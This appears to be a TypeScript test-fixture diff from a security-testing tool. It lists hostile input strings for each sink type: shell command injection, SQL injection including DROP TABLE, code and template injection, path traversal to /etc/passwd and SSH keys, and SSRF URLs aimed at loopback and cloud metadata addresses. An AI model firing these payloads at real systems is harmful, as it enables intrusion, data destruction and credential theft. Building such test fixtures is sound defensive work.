@@ -1,0 +1,38 @@
+import type { SinkKind } from "../../models/kinds.js";
+
+/** One hostile text. `{}` stands for a harmless one. */
+export interface Attack {
+  readonly text: string;
+  /** Texts that it may turn into on the way: by them it is recognised. */
+  readonly also?: readonly string[];
+}
+
+const all = (...texts: readonly string[]): readonly Attack[] => texts.map((text) => ({ text }));
+
+const LOOPBACK = ["127.0.0.1"] as const;
+
+/** Hostile texts of each kind of sink, the likeliest first. */
+export const ATTACKS: Readonly<Partial<Record<SinkKind, readonly Attack[]>>> = {
+  shell: all("{};id", "{}$(id)", "{}\nid", "{}`id`", "{}';id;'", '{}";id;"', "{}|id", "{}&&id", "{}&id", "$(id)", "{}\\';id;'", '{}\\";id;"', "{} ;id #", "{}\rid", "id"),
+  program: all("/tmp/evil", "sh", "../evil"),
+  arguments: all("--{}", "-{}"),
+  sql: all(
+    "{}' OR '1'='1", "{} OR 1=1", '{}" OR "1"="1', "{}; DROP TABLE t", "{}'; DROP TABLE t; --", "{}`; DROP TABLE t; --", "{}]; DROP TABLE t; --", '{}"; DROP TABLE t; --', "{}\\' OR 1=1 --",
+    "1); DROP TABLE t; --", "DELETE FROM t", "SELECT 1; DROP TABLE t", "SELECT * FROM {} WHERE 1=1; DROP TABLE t", "{} UNION SELECT 1", "1 OR 1=1",
+  ),
+  code: all("{};process.exit()", "{}');process.exit();('", '{}");process.exit();("', "{}`;process.exit();`", "{}${process.exit()}", "process.exit()", "{}'+process.exit()+'", '{}"+process.exit()+"', "{}\nprocess.exit()", "{})||process.exit()||(1", "{}\\');process.exit();//"),
+  template: all("{{constructor.constructor('return process')()}}", "<%= process.exit() %>", "${process.exit()}", "#{process.exit()}"),
+  script: all("{};return true", "{}'||'1'=='1", '{}"||"1"=="1', "function(){return true}"),
+  module: all("/tmp/evil.js", "../../../../tmp/evil.js", "{}/../../../../tmp/evil.js"),
+  path: all(
+    "../../../../../../../../etc/passwd", "/etc/passwd", "{}/../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "....//....//....//....//....//....//etc/passwd", "..\\..\\..\\..\\..\\etc\\passwd", "~/.ssh/id_rsa", "..", "file:///etc/passwd", "//etc/passwd", "/etc/passwd\0{}",
+  ),
+  url: [
+    { text: "http://127.0.0.1/" }, { text: "http://169.254.169.254/latest/meta-data/" }, { text: "http://localhost/" }, { text: "https://127.0.0.1/" }, { text: "http://[::1]/" },
+    { text: "http://[::ffff:127.0.0.1]/", also: ["::ffff:7f00:1", "7f00:1"] }, { text: "http://2130706433/", also: LOOPBACK }, { text: "http://0x7f.1/", also: LOOPBACK }, { text: "http://127.1/", also: LOOPBACK },
+    { text: "http://0177.0.0.1/", also: LOOPBACK }, { text: "http://localhost./" }, { text: "http://0.0.0.0/" }, { text: "http://{}@127.0.0.1/" }, { text: "http://[fd00::1]/" }, { text: "http://10.0.0.1/" },
+    { text: "https://[::ffff:127.0.0.1]/", also: ["::ffff:7f00:1", "7f00:1"] }, { text: "https://169.254.169.254/" }, { text: "file:///etc/passwd" }, { text: "//127.0.0.1/" }, { text: "@127.0.0.1/" },
+    { text: "{}@127.0.0.1" }, { text: "127.0.0.1" }, { text: "127.0.0.1/" }, { text: ".evil.example/" }, { text: "evil.example/{}" }, { text: "https://evil.example/" }, { text: "evil.example#" },
+  ],
+};
